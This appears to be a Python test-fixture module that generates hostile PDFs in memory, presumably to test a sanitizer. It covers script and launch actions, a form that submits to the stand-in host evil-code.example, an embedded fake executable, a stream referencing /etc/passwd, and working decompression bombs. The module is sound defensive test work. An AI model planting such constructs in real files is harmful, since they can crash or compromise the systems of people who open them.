"""PDFs that do more than show pages, made in memory."""

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.samples.media_files import box
from tests.samples.picture_files import painted, photo, saved

AUTHOR = "济宁某甲"


def pdf(change=None, **options: object) -> bytes:
    """One page with words; `change` gets the document and its page before it is saved."""
    out = io.BytesIO()
    with Pdf.new() as document:
        page = document.add_blank_page(page_size=(300, 300))
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.Resources = Dictionary(Font=Dictionary(A=font))
        page.Contents = document.make_stream(b"BT /A 12 Tf 20 200 Td (Evidence) Tj ET")
        if change:
            change(document, page)
        document.save(out, **options)
    return out.getvalue()


def _script(document: Pdf) -> Dictionary:
    return document.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('evil-code')")))


def with_script() -> bytes:
    def change(document, page):
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script(document)])))

    return pdf(change)


def with_open_action() -> bytes:
    def change(document, page):
        document.Root.OpenAction = _script(document)
        page.AA = Dictionary(O=_script(document))
        document.Root.AA = Dictionary(WC=_script(document))

    return pdf(change)


def with_launch() -> bytes:
    def change(document, page):
        action = Dictionary(S=Name.Launch, F=String("evil-code.exe"))
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=action)
        page.Annots = Array([document.make_indirect(link)])

    return pdf(change)


def with_link() -> bytes:
    def change(document, page):
        action = Dictionary(S=Name.URI, URI=String("https://evil-code.example/?who=jia"))
        page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=action)])

    return pdf(change)


def with_embedded_file() -> bytes:
    def change(document, page):
        document.attachments["evil-code.exe"] = b"MZ evil-code"

    return pdf(change)


def with_form(*, painted_by_reader: bool = False, drawn_by_reader: bool = False) -> bytes:
    """A filled field whose words must stay to be seen, an XFA form beside it, and a button that sends.

    Readers paint the words of some forms by themselves, and draw the whole of others out of XFA.
    """

    def change(document, page):
        words = document.make_stream(b"BT /A 12 Tf (Filled) Tj ET")
        words.Type, words.Subtype, words.BBox = Name.XObject, Name.Form, Array([0, 0, 99, 20])
        words.Resources = page.Resources
        field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), V=String("Filled"), F=4)
        field.Rect, field.AP = Array([10, 10, 109, 30]), Dictionary(N=words)
        field.A = Dictionary(S=Name.SubmitForm, F=String("https://evil-code.example"))
        field.DA = String("/A 12 Tf 0 g")
        field = document.make_indirect(field)
        page.Annots = Array([field])
        xfa = document.make_stream(b"<xdp>evil-code</xdp>")
        resources = Dictionary(Font=page.Resources.Font)
        document.Root.NeedsRendering = drawn_by_reader
        document.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=xfa, DR=resources, DA=String("/A 12 Tf 0 g"))
        document.Root.AcroForm.NeedAppearances = painted_by_reader

    return pdf(change)


def with_properties() -> bytes:
    def change(document, page):
        document.docinfo["/Author"] = AUTHOR
        document.docinfo["/Creator"] = "evil-code"
        metadata = document.make_stream(b"<x:xmpmeta>evil-code</x:xmpmeta>")
        metadata.Type, metadata.Subtype = Name.Metadata, Name.XML
        document.Root.Metadata = metadata
        page.PieceInfo = Dictionary(Evil=Dictionary(Private=String("evil-code")))

    return pdf(change)


def with_photo(*, packed: bool = False) -> bytes:
    """A photo as scanning apps embed it: the whole JPEG with its Exif."""

    def change(document, page):
        image = document.make_stream(zlib.compress(photo()) if packed else photo())
        image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, 64, 48
        image.ColorSpace, image.BitsPerComponent, image.Filter = Name.DeviceRGB, 8, Name.DCTDecode
        if packed:
            image.Filter = Array([Name.FlateDecode, Name.DCTDecode])
        page.Resources.XObject = Dictionary(AA=image)
        page.Contents = document.make_stream(b"q 200 0 0 150 20 20 cm /AA Do Q")

    return pdf(change)


def with_outside_stream() -> bytes:
    def change(document, page):
        page.Contents.F = String("/etc/passwd")

    return pdf(change)


def encrypted(user: str = "1234") -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=user))


def with_jpeg2000() -> bytes:
    def change(document, page):
        picture = saved(painted(), "JPEG2000") + box(b"xml ", b"<evil-code/>")
        image = document.make_stream(picture)
        image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, 64, 48
        image.Filter = Name.JPXDecode
        page.Resources.XObject = Dictionary(AA=image)

    return pdf(change)


def _packed_nothing(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1024 * 1024)) for _ in range(megabytes)) + packer.flush()


def with_bomb() -> bytes:
    """A page whose content unpacks to 300 megabytes of nothing."""

    def change(document, page):
        page.Contents.write(_packed_nothing(300), filter=Name.FlateDecode)

    return pdf(change)


def with_packed_twice() -> bytes:
    def change(document, page):
        page.Contents.write(zlib.compress(_packed_nothing(20)), filter=Array([Name.FlateDecode, Name.FlateDecode]))

    return pdf(change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def with_bomb_of_objects() -> bytes:
    """The bomb lies in the stream that holds the document's own objects, which every reader must unpack."""
    packed = _packed_nothing(100)
    head = b"%PDF-1.7\n"
    objects = (
        b"1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + str(len(packed)).encode() + b">>\nstream\n"
    )
    body = head + objects + packed + b"\nendstream\nendobj\n"
    rows = [(0, 0), (1, len(head)), (1, len(body)), (2, 1)]
    table = b"".join(bytes([kind]) + at.to_bytes(4, "big") + b"\0" for kind, at in rows)
    end = b"2 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 3 0 R/Length 24>>\nstream\n" + table + b"\nendstream\nendobj\n"
    return body + end + b"startxref\n" + str(len(body)).encode() + b"\n%%EOF\n"
